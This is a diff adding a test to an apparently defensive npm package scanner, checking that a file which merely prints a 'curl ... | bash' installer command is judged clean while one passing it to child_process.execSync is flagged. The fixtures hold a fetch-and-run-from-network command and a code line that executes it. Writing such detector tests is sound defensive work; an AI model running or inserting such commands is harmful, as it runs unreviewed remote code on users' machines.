@@ -416,3 +416,13 @@ def test_ci_workflow_written_at_install_is_persistence() -> None:
     generator = ("const fs = require('fs');\nexports.scaffold = function (dir) {\n"
                  "  fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push\\n');\n};\n")
     assert verdict(npm_tgz("create-my-app", "3.1.0", {"index.js": generator}))[0] == "clean"
+
+
+def test_download_commands_in_a_file_that_starts_nothing_are_mentions() -> None:
+    """A CLI's help text names its installer (``curl ... | bash``); the file starts no process, so the command
+    is text. The same command handed to child_process still counts."""
+    text = ("const CURL_INSTALL_COMMAND = 'curl -fsSL https://x.example.net/install | bash';\n"
+            "module.exports = () => console.log(`Install it with: ${CURL_INSTALL_COMMAND}`);\n")
+    assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": text}))[0] == "clean"
+    runs = text + "require('child_process').execSync(CURL_INSTALL_COMMAND);\n"
+    assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": runs}))[0] != "clean"
